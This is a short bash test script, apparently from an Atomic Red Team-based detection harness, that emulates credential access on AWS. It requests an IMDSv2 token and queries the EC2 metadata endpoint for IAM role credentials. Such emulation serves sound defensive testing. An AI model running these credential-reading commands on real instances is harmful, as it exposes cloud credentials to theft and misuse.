#!/usr/bin/env bash
# Atomic Red Team T1552.005-3: AWS - Retrieve EC2 IAM Role Credentials via IMDSv2
# atomic GUID c9aa1ca4-04df-4623-adac-1f199ca5ce42; technique T1552.005
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    token=$(curl -s --connect-timeout 2 -m 3 -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")
    curl -s --connect-timeout 2 -m 3 -H "X-aws-ec2-metadata-token: $token" http://169.254.169.254/latest/meta-data/iam/security-credentials/
}
cleanup() {
    :
}
"$1"
